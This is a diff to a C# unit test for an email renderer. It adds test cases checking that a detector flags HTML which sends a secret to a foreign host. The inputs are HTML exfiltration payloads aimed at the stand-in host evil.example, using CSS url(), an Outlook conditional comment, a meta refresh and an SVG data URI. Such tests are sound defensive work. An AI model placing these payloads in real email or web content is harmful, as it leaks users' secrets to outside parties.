@@ -178,6 +178,10 @@ public sealed class EmailRendererTests
     [InlineData("<p style=\"background:url(https://evil.example/SECRET)\">x</p>", "evil.example")]
     [InlineData("<style>p{background:url(https\\3a //evil.example/SECRET)}</style>", "evil.example")]
     [InlineData("<p>Visit evil.example/reset?SECRET</p>", "evil.example")]
+    [InlineData("<!--[if mso]><img src=https://evil.example/?SECRET><![endif]-->", "evil.example")]
+    [InlineData("<template><img src=\"https://evil.example/?SECRET\"></template>", "evil.example")]
+    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?SECRET\">", "evil.example")]
+    [InlineData("<img src=\"data:image/svg+xml,&lt;svg&gt;&lt;image href='https://evil.example/?SECRET'/&gt;&lt;/svg&gt;\">", "data:")]
     public void Html_that_carries_the_secret_to_another_host_is_found(string html, string host)
     {
         Assert.Equal(host, SecretPlacement.ForeignHostInHtml(html, "SECRET", "https://shop.example/store"));
